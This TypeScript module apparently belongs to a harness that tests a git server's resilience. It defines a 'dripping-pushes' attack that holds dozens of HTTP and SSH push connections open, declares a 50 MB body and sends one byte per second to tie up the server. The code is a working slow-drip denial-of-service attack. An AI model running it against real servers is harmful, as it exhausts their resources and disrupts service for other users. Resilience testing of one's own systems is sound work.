import { flushPacket, packet } from '@sheaf/git-engine'
import { hold } from '../wire/hammer.ts'
import { pushHeaders } from '../wire/push-request.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import { channelClosed, holdOverSsh, runOverSsh } from '../wire/ssh.ts'
import type { Attack } from './attack.ts'

const head = (n: number) =>
  Buffer.concat([
    packet(`${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/drip-${n}\0report-status object-format=sha1 agent=storm`),
    flushPacket,
    // The head of a pack of 1,000 objects, of which the first is begun.
    Buffer.from('PACK\0\0\0\x02\0\0\x03\xe8', 'latin1'),
  ])

export const drippingPushes: Attack = {
  name: 'dripping-pushes',
  about: '60 pushes that send a byte a second',
  doors: ['http', 'ssh'],
  roles: ['account'],
  async prepare({ ownRepositories }) {
    await ownRepositories('dripping')
    return {}
  },
  play(play) {
    const drip = Buffer.from('\x30')
    if (play.phase.door === 'ssh') {
      let round = 0
      return holdOverSsh(play, {
        connections: 40,
        async work(client, { account }) {
          round += 1
          const channel = await runOverSsh(client, { command: `git-receive-pack '/${account?.username}/dripping.git'` })
          channel.resume()
          channel.write(head(round))
          const dripping = setInterval(() => void channel.write(drip), 1_000)
          await channelClosed(channel)
          clearInterval(dripping)
          play.count('ended by the server')
        },
      })
    }
    return hold(play, {
      connections: 60,
      drip: { bytes: drip, everyMs: 1_000 },
      request: (sender, n) =>
        requestBytes({
          method: 'POST',
          path: `/${sender.account?.username}/dripping.git/git-receive-pack`,
          headers: { ...pushHeaders, ...basic(sender) },
          body: head(n),
          length: 50_000_000,
        }),
    })
  },
}
